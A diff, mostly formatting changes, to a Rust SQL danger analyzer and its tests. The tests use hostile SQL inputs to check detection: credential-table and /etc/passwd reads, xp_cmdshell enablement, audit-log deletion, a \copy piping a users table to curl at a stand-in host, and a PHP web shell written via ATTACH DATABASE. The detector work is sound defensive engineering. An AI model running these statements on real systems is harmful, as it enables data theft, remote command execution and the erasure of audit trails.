     st.statements += 1;
     let t = tokens(text);
-    let w = |k: usize| t.get(k).map(Tok::text).unwrap_or_default().to_ascii_uppercase();
+    let w = |k: usize| {
+        t.get(k)
+            .map(Tok::text)
+            .unwrap_or_default()
+            .to_ascii_uppercase()
+    };
     let has = |x: &str| t.iter().any(|k| k.is(x));
     let pair = |a: &str, b: &str| t.windows(2).any(|p| p[0].is(a) && p[1].is(b));
     let mut dangers: Vec<String> = Vec::new();
@@ -3365,7 +3448,12 @@ fn fallback(c: &mut Collector, st: &mut State, text: &str, err: &str) {
         }
     }
     let opaque = || Op::opaque(format!("sql does not parse: {err}"));
-    let push = |c: &mut Collector, kind: SqlKind, verb: String, objects: Vec<String>, mut dangers: Vec<String>, extra: &[&str]| {
+    let push = |c: &mut Collector,
+                kind: SqlKind,
+                verb: String,
+                objects: Vec<String>,
+                mut dangers: Vec<String>,
+                extra: &[&str]| {
         for x in extra {
             push_uniq(&mut dangers, x);
         }
@@ -3438,13 +3526,31 @@ fn fallback(c: &mut Collector, st: &mut State, text: &str, err: &str) {
         return;
     }
     if first == "VACUUM" && has("INTO") {
-        push(c, SqlKind::Admin, "VACUUM INTO".into(), Vec::new(), dangers, &["vacuum_into"]);
+        push(
+            c,
+            SqlKind::Admin,
+            "VACUUM INTO".into(),
+            Vec::new(),
+            dangers,
+            &["vacuum_into"],
+        );
         return;
     }
     c.push(opaque());
     if pair("INTO", "OUTFILE") || pair("INTO", "DUMPFILE") {
-        let d = if pair("INTO", "OUTFILE") { "into_outfile" } else { "into_dumpfile" };
-        push(c, SqlKind::Read, "SELECT INTO OUTFILE".into(), Vec::new(), dangers, &[d]);
+        let d = if pair("INTO", "OUTFILE") {
+            "into_outfile"
+        } else {
+            "into_dumpfile"
+        };
+        push(
+            c,
+            SqlKind::Read,
+            "SELECT INTO OUTFILE".into(),
+            Vec::new(),
+            dangers,
+            &[d],
+        );
         return;
     }
     if first == "LOAD" {
@@ -3453,9 +3559,23 @@ fn fallback(c: &mut Collector, st: &mut State, text: &str, err: &str) {
             .find(|p| p[0].is("INTO") && p[1].is("TABLE"))
             .map(|p| p[2].text().to_lowercase());
         if has("INFILE") {
-            push(c, SqlKind::Dml, "LOAD DATA".into(), table.into_iter().collect(), dangers, &["load_data_infile"]);
+            push(
+                c,
+                SqlKind::Dml,
+                "LOAD DATA".into(),
+                table.into_iter().collect(),
+                dangers,
+                &["load_data_infile"],
+            );
         } else {
-            push(c, SqlKind::Admin, "LOAD".into(), Vec::new(), dangers, &["load_extension"]);
+            push(
+                c,
+                SqlKind::Admin,
+                "LOAD".into(),
+                Vec::new(),
+                dangers,
+                &["load_extension"],
+            );
         }
         return;
     }
@@ -3467,7 +3587,14 @@ fn fallback(c: &mut Collector, st: &mut State, text: &str, err: &str) {
         }) {
             extra.push("audit_tamper");
         }
-        push(c, SqlKind::Admin, "ALTER SYSTEM".into(), Vec::new(), dangers, &extra);
+        push(
+            c,
+            SqlKind::Admin,
+            "ALTER SYSTEM".into(),
+            Vec::new(),
+            dangers,
+            &extra,
+        );
         return;
     }
     if has("XP_CMDSHELL") {
@@ -3479,9 +3606,30 @@ fn fallback(c: &mut Collector, st: &mut State, text: &str, err: &str) {
     }
     let second = w(1);
     let object = || {
-        let k = if matches!(second.as_str(), "TABLE" | "VIEW" | "INDEX" | "DATABASE" | "SCHEMA" | "USER" | "ROLE" | "GROUP" | "EVENT" | "FUNCTION" | "PROCEDURE" | "TRIGGER") { 2 } else { 1 };
+        let k = if matches!(
+            second.as_str(),
+            "TABLE"
+                | "VIEW"
+                | "INDEX"
+                | "DATABASE"
+                | "SCHEMA"
+                | "USER"
+                | "ROLE"
+                | "GROUP"
+                | "EVENT"
+                | "FUNCTION"
+                | "PROCEDURE"
+                | "TRIGGER"
+        ) {
+            2
+        } else {
+            1
+        };
         let mut k = k;
-        while t.get(k).is_some_and(|x| x.is("IF") || x.is("NOT") || x.is("EXISTS")) {
+        while t
+            .get(k)
+            .is_some_and(|x| x.is("IF") || x.is("NOT") || x.is("EXISTS"))
+        {
             k += 1;
         }
         t.get(k)
@@ -3492,13 +3640,31 @@ fn fallback(c: &mut Collector, st: &mut State, text: &str, err: &str) {
     };
     let dcl_object = matches!(second.as_str(), "USER" | "ROLE" | "GROUP" | "LOGIN");
     match first.as_str() {
-        "GRANT" | "REVOKE" | "DENY" => push(c, SqlKind::Dcl, first.clone(), Vec::new(), dangers, &[]),
-        "CREATE" | "ALTER" | "DROP" | "RENAME" if dcl_object => {
-            push(c, SqlKind::Dcl, format!("{first} {second}"), object(), dangers, &[])
+        "GRANT" | "REVOKE" | "DENY" => {
+            push(c, SqlKind::Dcl, first.clone(), Vec::new(), dangers, &[])
         }
-        "SET" if second == "PASSWORD" => push(c, SqlKind::Dcl, "SET PASSWORD".into(), Vec::new(), dangers, &[]),
+        "CREATE" | "ALTER" | "DROP" | "RENAME" if dcl_object => push(
+            c,
+            SqlKind::Dcl,
+            format!("{first} {second}"),
+            object(),
+            dangers,
+            &[],
+        ),
+        "SET" if second == "PASSWORD" => push(
+            c,
+            SqlKind::Dcl,
+            "SET PASSWORD".into(),
+            Vec::new(),
+            dangers,
+            &[],
+        ),
         "CREATE" | "ALTER" | "DROP" | "TRUNCATE" | "RENAME" | "COMMENT" => {
-            let verb = if first == "TRUNCATE" { first.clone() } else { format!("{first} {second}") };
+            let verb = if first == "TRUNCATE" {
+                first.clone()
+            } else {
+                format!("{first} {second}")
+            };
             push(c, SqlKind::Ddl, verb, object(), dangers, &[])
         }
         "INSERT" | "UPDATE" | "DELETE" | "REPLACE" | "MERGE" | "UPSERT" => {
@@ -3514,7 +3680,9 @@ fn fallback(c: &mut Collector, st: &mut State, text: &str, err: &str) {
             audit_danger(&mut op);
             c.push(Op::Sql(op));
         }
-        _ if !dangers.is_empty() => push(c, SqlKind::Admin, first.clone(), Vec::new(), dangers, &[]),
+        _ if !dangers.is_empty() => {
+            push(c, SqlKind::Admin, first.clone(), Vec::new(), dangers, &[])
+        }
         _ => {}
     }
 }
@@ -3569,7 +3737,9 @@ mod tests {
         assert_eq!(s.objects, vec!["users"]);
         assert!(s.dangers.is_empty());
         assert!(!s.has_where && !s.where_tautological);
-        let s = one("WITH RECURSIVE tree(id) AS (SELECT id FROM categories UNION ALL SELECT c.id FROM categories c JOIN tree t ON c.parent_id = t.id) SELECT * FROM tree");
+        let s = one(
+            "WITH RECURSIVE tree(id) AS (SELECT id FROM categories UNION ALL SELECT c.id FROM categories c JOIN tree t ON c.parent_id = t.id) SELECT * FROM tree",
+        );
         assert_eq!(s.kind, SqlKind::Read);
         assert_eq!(s.objects, vec!["categories"]);
         for q in [
@@ -3592,7 +3762,10 @@ mod tests {
             assert!(s.dangers.is_empty(), "{q}: {s:?}");
         }
         assert_eq!(one("PRAGMA table_info(users)").objects, vec!["users"]);
-        assert_eq!(one("SELECT * FROM \"Public\".\"Users\"").objects, vec!["public.users"]);
+        assert_eq!(
+            one("SELECT * FROM \"Public\".\"Users\"").objects,
+            vec!["public.users"]
+        );
     }
 
     #[test]
@@ -3663,17 +3836,53 @@ mod tests {
             ("DROP VIEW monthly_revenue;", SqlKind::Ddl, "DROP VIEW"),
             ("dRoP/**/tAbLe/**/users;", SqlKind::Ddl, "DROP TABLE"),
             ("TRUNCATE TABLE users;", SqlKind::Ddl, "TRUNCATE"),
-            ("CREATE TEMP TABLE x (a int)", SqlKind::Ddl, "CREATE TEMP TABLE"),
-            ("CREATE TEMPORARY TABLE x (a int)", SqlKind::Ddl, "CREATE TEMP TABLE"),
+            (
+                "CREATE TEMP TABLE x (a int)",
+                SqlKind::Ddl,
+                "CREATE TEMP TABLE",
+            ),
+            (
+                "CREATE TEMPORARY TABLE x (a int)",
+                SqlKind::Ddl,
+                "CREATE TEMP TABLE",
+            ),
             ("CREATE TABLE x (a int)", SqlKind::Ddl, "CREATE TABLE"),
-            ("CREATE VIEW v AS SELECT * FROM users WHERE active", SqlKind::Ddl, "CREATE VIEW"),
+            (
+                "CREATE VIEW v AS SELECT * FROM users WHERE active",
+                SqlKind::Ddl,
+                "CREATE VIEW",
+            ),
             ("CREATE INDEX i ON t (a)", SqlKind::Ddl, "CREATE INDEX"),
-            ("ALTER TABLE t ADD COLUMN c int", SqlKind::Ddl, "ALTER TABLE ADD COLUMN"),
-            ("ALTER TABLE t DROP COLUMN c", SqlKind::Ddl, "ALTER TABLE DROP COLUMN"),
-            ("ALTER TABLE t RENAME TO u", SqlKind::Ddl, "ALTER TABLE RENAME"),
-            ("ALTER TABLE t RENAME COLUMN a TO b", SqlKind::Ddl, "ALTER TABLE RENAME COLUMN"),
-            ("ALTER TABLE t OWNER TO bob", SqlKind::Dcl, "ALTER TABLE OWNER TO"),
-            ("COMMENT ON TABLE t IS 'x'", SqlKind::Ddl, "COMMENT ON TABLE"),
+            (
+                "ALTER TABLE t ADD COLUMN c int",
+                SqlKind::Ddl,
+                "ALTER TABLE ADD COLUMN",
+            ),
+            (
+                "ALTER TABLE t DROP COLUMN c",
+                SqlKind::Ddl,
+                "ALTER TABLE DROP COLUMN",
+            ),
+            (
+                "ALTER TABLE t RENAME TO u",
+                SqlKind::Ddl,
+                "ALTER TABLE RENAME",
+            ),
+            (
+                "ALTER TABLE t RENAME COLUMN a TO b",
+                SqlKind::Ddl,
+                "ALTER TABLE RENAME COLUMN",
+            ),
+            (
+                "ALTER TABLE t OWNER TO bob",
+                SqlKind::Dcl,
+                "ALTER TABLE OWNER TO",
+            ),
+            (
+                "COMMENT ON TABLE t IS 'x'",
+                SqlKind::Ddl,
+                "COMMENT ON TABLE",
+            ),
             ("RENAME TABLE a TO b", SqlKind::Ddl, "RENAME TABLE"),
             ("SELECT * INTO newtable FROM t", SqlKind::Ddl, "SELECT INTO"),
         ];
@@ -3693,8 +3902,14 @@ mod tests {
     #[test]
     fn dcl_and_admin() {
         for (q, k) in [
-            ("GRANT ALL PRIVILEGES ON DATABASE prod TO PUBLIC;", SqlKind::Dcl),
-            ("REVOKE ALL ON SCHEMA public FROM app_readonly;", SqlKind::Dcl),
+            (
+                "GRANT ALL PRIVILEGES ON DATABASE prod TO PUBLIC;",
+                SqlKind::Dcl,
+            ),
+            (
+                "REVOKE ALL ON SCHEMA public FROM app_readonly;",
+                SqlKind::Dcl,
+            ),
             ("GRANT ALL ON *.* TO 'user'@'host';", SqlKind::Dcl),
             ("CREATE ROLE bob LOGIN SUPERUSER", SqlKind::Dcl),
             ("ALTER USER bob WITH PASSWORD 'x'", SqlKind::Dcl),
@@ -3715,7 +3930,10 @@ mod tests {
             assert!(!s.is_empty(), "{q}: {ops:?}");
             assert_eq!(s[0].kind, k, "{q}");
         }
-        assert_eq!(one("ALTER USER bob WITH PASSWORD 'x'").verb, "ALTER ROLE PASSWORD");
+        assert_eq!(
+            one("ALTER USER bob WITH PASSWORD 'x'").verb,
+            "ALTER ROLE PASSWORD"
+        );
         let ops = run("BEGIN; UPDATE accounts SET balance = balance - 10 WHERE id = 1; ROLLBACK;");
         let s = sqls(&ops);
         assert_eq!(s.len(), 3);
@@ -3730,38 +3948,92 @@ mod tests {
     #[test]
     fn dangers() {
         for (q, d) in [
-            ("SELECT rolname, rolpassword FROM pg_authid;", "credential_table"),
+            (
+                "SELECT rolname, rolpassword FROM pg_authid;",
+                "credential_table",
+            ),
             ("SELECT * FROM pg_catalog.pg_shadow", "credential_table"),
-            ("SELECT user, authentication_string FROM mysql.user", "credential_table"),
-            ("SELECT email, password_hash, api_token FROM users;", "credential_table"),
-            ("COPY users TO '/tmp/users.csv' WITH CSV HEADER;", "copy_file"),
+            (
+                "SELECT user, authentication_string FROM mysql.user",
+                "credential_table",
+            ),
+            (
+                "SELECT email, password_hash, api_token FROM users;",
+                "credential_table",
+            ),
+            (
+                "COPY users TO '/tmp/users.csv' WITH CSV HEADER;",
+                "copy_file",
+            ),
             ("COPY t FROM '/etc/passwd'", "copy_file"),
             ("SELECT LOAD_FILE('/etc/shadow');", "load_file"),
-            ("SELECT 1 FROM (SELECT pg_read_file('/etc/passwd')) x;", "pg_read_file"),
-            ("SELECT * FROM users WHERE id = (SELECT pg_ls_dir('/'))", "pg_ls_dir"),
-            ("INSERT INTO t VALUES (pg_read_binary_file('/x'))", "pg_read_binary_file"),
+            (
+                "SELECT 1 FROM (SELECT pg_read_file('/etc/passwd')) x;",
+                "pg_read_file",
+            ),
+            (
+                "SELECT * FROM users WHERE id = (SELECT pg_ls_dir('/'))",
+                "pg_ls_dir",
+            ),
+            (
+                "INSERT INTO t VALUES (pg_read_binary_file('/x'))",
+                "pg_read_binary_file",
+            ),
             ("SELECT lo_import('/etc/passwd')", "lo_import"),
-            ("SELECT * FROM dblink('host=198.51.100.23', 'SELECT 1') AS t(a int);", "dblink"),
-            ("SELECT dblink_exec('host=x', 'DROP TABLE t')", "dblink_exec"),
+            (
+                "SELECT * FROM dblink('host=198.51.100.23', 'SELECT 1') AS t(a int);",
+                "dblink",
+            ),
+            (
+                "SELECT dblink_exec('host=x', 'DROP TABLE t')",
+                "dblink_exec",
+            ),
             ("SELECT load_extension('/tmp/x.so')", "load_extension"),
-            ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "pg_terminate_backend"),
+            (
+                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
+                "pg_terminate_backend",
+            ),
             ("SELECT pg_sleep(100000)", "pg_sleep"),
             ("SELECT sleep(10)", "pg_sleep"),
             ("SELECT benchmark(100000000, md5('x'))", "pg_sleep"),
-            ("SELECT set_config('log_statement', 'none', false)", "set_config"),
-            ("SELECT set_config('log_statement', 'none', false)", "audit_tamper"),
-            ("DELETE FROM audit_log WHERE actor = 'agent';", "audit_tamper"),
+            (
+                "SELECT set_config('log_statement', 'none', false)",
+                "set_config",
+            ),
+            (
+                "SELECT set_config('log_statement', 'none', false)",
+                "audit_tamper",
+            ),
+            (
+                "DELETE FROM audit_log WHERE actor = 'agent';",
+                "audit_tamper",
+            ),
             ("SeLeCt 1; tRuNcAtE TaBlE audit_log", "audit_tamper"),
-            ("UPDATE audit.events SET actor = 'x' WHERE id = 1", "audit_tamper"),
-            ("WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT * FROM u;", "data_modifying_cte"),
-            ("CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpythonu;", "create_function_untrusted"),
+            (
+                "UPDATE audit.events SET actor = 'x' WHERE id = 1",
+                "audit_tamper",
+            ),
+            (
+                "WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT * FROM u;",
+                "data_modifying_cte",
+            ),
+            (
+                "CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpythonu;",
+                "create_function_untrusted",
+            ),
             ("CREATE EXTENSION dblink", "dblink"),
-            ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", "postgres_fdw"),
+            (
+                "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')",
+                "postgres_fdw",
+            ),
             ("ALTER SYSTEM SET log_statement = 'none'", "alter_system"),
             ("VACUUM INTO '/tmp/x.db'", "vacuum_into"),
             ("SELECT * FROM users INTO OUTFILE '/tmp/x'", "into_outfile"),
             ("SELECT a INTO OUTFILE '/tmp/x' FROM t", "into_outfile"),
-            ("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "load_data_infile"),
+            (
+                "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
+                "load_data_infile",
+            ),
             ("SELECT repeat('x', 1000000000)", "resource_exhaustion"),
         ] {
             let ops = run(q);
@@ -3787,7 +4059,8 @@ mod tests {
             let ops = run(q);
             let s = sqls(&ops);
             assert!(
-                s.iter().all(|s| s.dangers.is_empty() || s.objects.iter().any(|o| o.contains("audit"))),
+                s.iter()
+                    .all(|s| s.dangers.is_empty() || s.objects.iter().any(|o| o.contains("audit"))),
                 "{q}: {ops:#?}"
             );
         }
@@ -3800,12 +4073,23 @@ mod tests {
         let ops = run("SELECT * FROM t /* ; */; TRUNCATE t;");
         assert!(sqls(&ops).iter().any(|s| s.verb == "TRUNCATE"));
         let ops = run("SELECT 1;\n/*! DROP TABLE users */;");
-        assert!(sqls(&ops).iter().any(|s| s.verb == "DROP TABLE"), "{ops:#?}");
+        assert!(
+            sqls(&ops).iter().any(|s| s.verb == "DROP TABLE"),
+            "{ops:#?}"
+        );
         let ops = run("SELECT 1 --1; DROP TABLE x");
-        assert!(sqls(&ops).iter().any(|s| s.verb == "DROP TABLE"), "{ops:#?}");
+        assert!(
+            sqls(&ops).iter().any(|s| s.verb == "DROP TABLE"),
+            "{ops:#?}"
+        );
         let ops = run("EXEC('DR' + 'OP TABLE users');");
-        assert!(sqls(&ops).iter().any(|s| s.verb == "DROP TABLE"), "{ops:#?}");
-        let ops = run("EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;");
+        assert!(
+            sqls(&ops).iter().any(|s| s.verb == "DROP TABLE"),
+            "{ops:#?}"
+        );
+        let ops = run(
+            "EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;",
+        );
         assert!(opaque(&ops));
         assert!(sqls(&ops).iter().any(|s| has(s, "xp_cmdshell")), "{ops:#?}");
         let ops = run("CREATE EVENT purge ON SCHEDULE EVERY 1 HOUR DO DELETE FROM payments;");
@@ -3813,7 +4097,12 @@ mod tests {
         let ops = run("DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$;");
         assert!(opaque(&ops));
         let ops = run("SELECT query_to_xml('DELETE FROM users', true, false, '')");
-        assert!(sqls(&ops).iter().any(|s| s.verb == "DELETE" && s.where_tautological), "{ops:#?}");
+        assert!(
+            sqls(&ops)
+                .iter()
+                .any(|s| s.verb == "DELETE" && s.where_tautological),
+            "{ops:#?}"
+        );
         let ops = run("-- DROP TABLE users;\nSELECT 1;");
         assert_eq!(sqls(&ops).len(), 1);
         assert_eq!(sqls(&ops)[0].kind, SqlKind::Read);
@@ -3830,13 +4119,17 @@ mod tests {
         assert_eq!(sqls(&ops)[0].database.as_deref(), Some("prod"));
         let ops = run_db("SELECT 1", ":memory:");
         assert_eq!(sqls(&ops)[0].database.as_deref(), Some("memory"));
-        let ops = run("ATTACH DATABASE 'prod.db' AS p; DELETE FROM p.users WHERE id = 1; DELETE FROM users WHERE id = 2;");
+        let ops = run(
+            "ATTACH DATABASE 'prod.db' AS p; DELETE FROM p.users WHERE id = 1; DELETE FROM users WHERE id = 2;",
+        );
         let s = sqls(&ops);
         assert!(has(s[0], "attach"));
         assert_eq!(s[0].database.as_deref(), Some("prod"));
         assert_eq!(s[1].database.as_deref(), Some("prod"));
         assert_eq!(s[2].database, None);
-        let ops = run("ATTACH DATABASE '/var/www/html/shell.php' AS w; CREATE TABLE w.x (y TEXT); INSERT INTO w.x VALUES ('<?php system($_GET[\"c\"]); ?>');");
+        let ops = run(
+            "ATTACH DATABASE '/var/www/html/shell.php' AS w; CREATE TABLE w.x (y TEXT); INSERT INTO w.x VALUES ('<?php system($_GET[\"c\"]); ?>');",
+        );
         assert!(sqls(&ops).iter().any(|s| has(s, "attach")));
         let s = one("SELECT * FROM prod.public.users");
         assert_eq!(s.database.as_deref(), Some("prod"));
@@ -3860,14 +4153,24 @@ mod tests {
         let ops = run("\\copy users to program 'curl -d @- http://x'");
         assert!(sqls(&ops).iter().any(|s| has(s, "copy_program")));
         let ops = run("\\copy users to 'out.csv' csv header");
-        assert!(ops.iter().any(|o| matches!(o, Op::FileWrite { path } if path.path == "/w/p/out.csv")));
+        assert!(
+            ops.iter()
+                .any(|o| matches!(o, Op::FileWrite { path } if path.path == "/w/p/out.csv"))
+        );
         assert!(!opaque(&ops));
         let ops = run("\\copy (SELECT * FROM pg_authid) to stdout");
         assert!(sqls(&ops).iter().any(|s| has(s, "credential_table")));
         assert!(opaque(&run("\\i evil.sql")));
         assert!(opaque(&run("\\gexec")));
         assert!(opaque(&run("\\zzz")));
-        for q in ["\\dt", "\\d users", "\\l", "\\x\n\\timing on\nSELECT 1;", "\\q", "SELECT 1 \\gx"] {
+        for q in [
+            "\\dt",
+            "\\d users",
+            "\\l",
+            "\\x\n\\timing on\nSELECT 1;",
+            "\\q",
+            "SELECT 1 \\gx",
+        ] {
             let ops = run(q);
             assert!(!opaque(&ops), "{q}: {ops:#?}");
             assert!(sqls(&ops).iter().all(|s| s.kind == SqlKind::Read), "{q}");
@@ -3898,7 +4201,9 @@ mod tests {
     fn unparsable_and_limits() {
         let ops = run("THIS IS NOT SQL");
         assert_eq!(ops.len(), 1);
-        assert!(matches!(&ops[0], Op::Opaque { reason } if reason.starts_with("sql does not parse")));
+        assert!(
+            matches!(&ops[0], Op::Opaque { reason } if reason.starts_with("sql does not parse"))
+        );
         let ops = run("SELECT 1; FROBNICATE x; DROP TABLE t");
         assert!(opaque(&ops));
         assert!(sqls(&ops).iter().any(|s| s.verb == "DROP TABLE"));
@@ -3914,7 +4219,10 @@ mod tests {
         // Deepest trees the operator cap lets through, on a 2 MiB test stack.
         let ors = format!("DELETE FROM t WHERE a{}", " OR a".repeat(1999));
         let _ = run(&ors);
-        let cat = format!("SELECT query_to_xml('x'{}, true, false, '')", " || 'x'".repeat(999));
+        let cat = format!(
+            "SELECT query_to_xml('x'{}, true, false, '')",
+            " || 'x'".repeat(999)
+        );
         let _ = run(&cat);
         let sum = format!("DELETE FROM t WHERE 1{} = 1", " + 1".repeat(1990));
         let _ = run(&sum);
@@ -3925,25 +4233,47 @@ mod tests {
     #[test]
     fn more_dialect_forms() {
         let ops = run("CREATE USER 'x'@'%' IDENTIFIED BY 'y'");
-        assert!(sqls(&ops).iter().any(|s| s.kind == SqlKind::Dcl), "{ops:#?}");
+        assert!(
+            sqls(&ops).iter().any(|s| s.kind == SqlKind::Dcl),
+            "{ops:#?}"
+        );
         let ops = run("SET PASSWORD FOR 'root'@'localhost' = 'x'");
-        assert!(sqls(&ops).iter().any(|s| s.kind == SqlKind::Dcl), "{ops:#?}");
+        assert!(
+            sqls(&ops).iter().any(|s| s.kind == SqlKind::Dcl),
+            "{ops:#?}"
+        );
         let ops = run("xp_cmdshell 'whoami'");
         assert!(sqls(&ops).iter().any(|s| has(s, "xp_cmdshell")), "{ops:#?}");
         let ops = run("EXEC xp_cmdshell 'dir'");
         assert!(sqls(&ops).iter().any(|s| has(s, "xp_cmdshell")), "{ops:#?}");
         let ops = run("INSTALL PLUGIN p SONAME 'evil.so'");
-        assert!(sqls(&ops).iter().any(|s| has(s, "load_extension")), "{ops:#?}");
+        assert!(
+            sqls(&ops).iter().any(|s| has(s, "load_extension")),
+            "{ops:#?}"
+        );
         let ops = run("PRAGMA writable_schema = ON");
-        assert!(sqls(&ops).iter().any(|s| has(s, "writable_schema")), "{ops:#?}");
+        assert!(
+            sqls(&ops).iter().any(|s| has(s, "writable_schema")),
+            "{ops:#?}"
+        );
         let ops = run("PRAGMA main.table_info(users); PRAGMA cache_size = -2000");
         assert!(!opaque(&ops), "{ops:#?}");
         let ops = run("SELECT * FROM fsdir('/etc')");
         assert!(sqls(&ops).iter().any(|s| has(s, "fsdir")), "{ops:#?}");
         assert!(one("DELETE FROM t WHERE created_at < now()").where_tautological);
-        assert!(!one("DELETE FROM t WHERE created_at < now() - interval '30 days'").where_tautological);
-        assert!(one("ALTER TABLE t DISABLE TRIGGER ALL").dangers.iter().any(|d| d == "audit_tamper"));
-        assert!(has(&one("SET session_replication_role = replica"), "audit_tamper"));
+        assert!(
+            !one("DELETE FROM t WHERE created_at < now() - interval '30 days'").where_tautological
+        );
+        assert!(
+            one("ALTER TABLE t DISABLE TRIGGER ALL")
+                .dangers
+                .iter()
+                .any(|d| d == "audit_tamper")
+        );
+        assert!(has(
+            &one("SET session_replication_role = replica"),
+            "audit_tamper"
+        ));
         let s = one("EXPLAIN ANALYZE DELETE FROM t");
         assert_eq!((s.kind, s.verb.as_str()), (SqlKind::Dml, "DELETE"));
         let s = one("EXPLAIN DELETE FROM t");
@@ -3956,7 +4286,9 @@ mod tests {
         assert!(opaque(&run("CALL do_it()")));
         let s = one("INSERT INTO t SELECT * FROM t ON CONFLICT (id) DO UPDATE SET a = excluded.a");
         assert!(s.where_tautological);
-        let s = one("INSERT INTO t SELECT * FROM staging ON CONFLICT (id) DO UPDATE SET a = excluded.a");
+        let s = one(
+            "INSERT INTO t SELECT * FROM staging ON CONFLICT (id) DO UPDATE SET a = excluded.a",
+        );
         assert!(!s.where_tautological);
         assert!(has(&one("WAITFOR DELAY '00:00:10'"), "pg_sleep"));
         let s = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
@@ -3964,14 +4296,62 @@ mod tests {
     }
 
     const FRAGS: &[&str] = &[
-        "SELECT ", "DELETE FROM t ", "UPDATE t SET a = 1 ", "WHERE ", "1=1", "'", "\"", "$$",
-        "$a$", "--", "/*", "*/", "\\", "\\c prod\n", "\n.open x.db\n", ";", "(", ")", "é",
-        "E'", "\\\\", " OR ", " x ", "INTO OUTFILE ", "PRAGMA ", "ATTACH ", "`", "\n",
-        ".shell ls\n", "\\copy t to 'f'\n", "::int", "now() + interval '100 years'",
-        "WITH a AS (", "RETURNING *", "EXEC(", "'x'+'y'", "query_to_xml(", "#", "/*!", "AS p",
-        "p.t", "\\o |cat\n", ".output |x\n", "\\! ls\n", "VALUES (1)", "IN (SELECT id FROM t)",
-        "LIKE '%'", "IS NULL", "NOT ", "\\gexec\n", "DROP TABLE ", "CREATE TEMP TABLE x(a int)",
-        "TABLE ", "VACUUM INTO 'x'", "LOAD DATA INFILE 'x' INTO TABLE t", "\\set x `id`\n",
+        "SELECT ",
+        "DELETE FROM t ",
+        "UPDATE t SET a = 1 ",
+        "WHERE ",
+        "1=1",
+        "'",
+        "\"",
+        "$$",
+        "$a$",
+        "--",
+        "/*",
+        "*/",
+        "\\",
+        "\\c prod\n",
+        "\n.open x.db\n",
+        ";",
+        "(",
+        ")",
+        "é",
+        "E'",
+        "\\\\",
+        " OR ",
+        " x ",
+        "INTO OUTFILE ",
+        "PRAGMA ",
+        "ATTACH ",
+        "`",
+        "\n",
+        ".shell ls\n",
+        "\\copy t to 'f'\n",
+        "::int",
+        "now() + interval '100 years'",
+        "WITH a AS (",
+        "RETURNING *",
+        "EXEC(",
+        "'x'+'y'",
+        "query_to_xml(",
+        "#",
+        "/*!",
+        "AS p",
+        "p.t",
+        "\\o |cat\n",
+        ".output |x\n",
+        "\\! ls\n",
+        "VALUES (1)",
+        "IN (SELECT id FROM t)",
+        "LIKE '%'",
+        "IS NULL",
+        "NOT ",
+        "\\gexec\n",
+        "DROP TABLE ",
+        "CREATE TEMP TABLE x(a int)",
+        "TABLE ",
+        "VACUUM INTO 'x'",
+        "LOAD DATA INFILE 'x' INTO TABLE t",
+        "\\set x `id`\n",
     ];
 
     proptest::proptest! {
@@ -3989,10 +4369,37 @@ mod tests {
     #[test]
     fn never_panics_on_odd_input() {
         for q in [
-            "", ";", ";;;", "'", "\"", "$$", "$a$ x", "/*", "--", "\\", "\\c", ".", ".x", "E'\\",
-            "é\\ü", "SELECT 'é", "\\copy", "\\copy (", ".open", ".import", "PRAGMA", "PRAGMA x(",
-            "SELECT $1", "x\u{0}y", "\\o |", ".output |", "EXEC", "ATTACH", "\\c 'dbname=prod'",
-            "SELECT * FROM t WHERE a LIKE", "DELETE FROM t WHERE created_at < datetime('now', '+200 years')",
+            "",
+            ";",
+            ";;;",
+            "'",
+            "\"",
+            "$$",
+            "$a$ x",
+            "/*",
+            "--",
+            "\\",
+            "\\c",
+            ".",
+            ".x",
+            "E'\\",
+            "é\\ü",
+            "SELECT 'é",
+            "\\copy",
+            "\\copy (",
+            ".open",
+            ".import",
+            "PRAGMA",
+            "PRAGMA x(",
+            "SELECT $1",
+            "x\u{0}y",
+            "\\o |",
+            ".output |",
+            "EXEC",
+            "ATTACH",
+            "\\c 'dbname=prod'",
+            "SELECT * FROM t WHERE a LIKE",
+            "DELETE FROM t WHERE created_at < datetime('now', '+200 years')",
         ] {
             let _ = run(q);
         }
@@ -4000,46 +4407,5 @@ mod tests {
         assert_eq!(sqls(&ops)[0].database.as_deref(), Some("prod"));
         let s = one("DELETE FROM t WHERE created_at < datetime('now', '+200 years')");
         assert!(s.where_tautological);
-    }
-}
-#[cfg(test)]
-mod bench_probe {
-    #[test]
-    fn bench() {
-        if std::env::var("BENCH").is_err() { return; }
-        let ctx = crate::Context::new("/w/p", "/w/p", "/home/u");
-        for q in ["SELECT 1", "SELECT id, name FROM users WHERE id = 7", "SELECT 1; DROP TABLE users; DELETE FROM t",
-                  "UPDATE users SET last_login = now() WHERE id = 7;", "PRAGMA table_info(users)",
-                  "WITH RECURSIVE tree(id, parent_id, depth) AS (SELECT id, parent_id, 0 FROM categories WHERE parent_id IS NULL UNION ALL SELECT c.id, c.parent_id, t.depth + 1 FROM categories c JOIN tree t ON c.parent_id = t.id) SELECT * FROM tree;",
-                  "\\c prod\nSELECT 1;"] {
-            let n = 20000;
-            let t = std::time::Instant::now();
-            for _ in 0..n { std::hint::black_box(crate::analyze(crate::Lang::Sql, q, &ctx)); }
-            let total = t.elapsed().as_secs_f64() * 1e6 / n as f64;
-            let t = std::time::Instant::now();
-            for _ in 0..n { std::hint::black_box(super::parse_any(q).ok()); }
-            let parse = t.elapsed().as_secs_f64() * 1e6 / n as f64;
-            let t = std::time::Instant::now();
-            for _ in 0..n { std::hint::black_box((super::is_blank(q), super::operator_load(q), super::mysql_divergent(q))); }
-            let scan = t.elapsed().as_secs_f64() * 1e6 / n as f64;
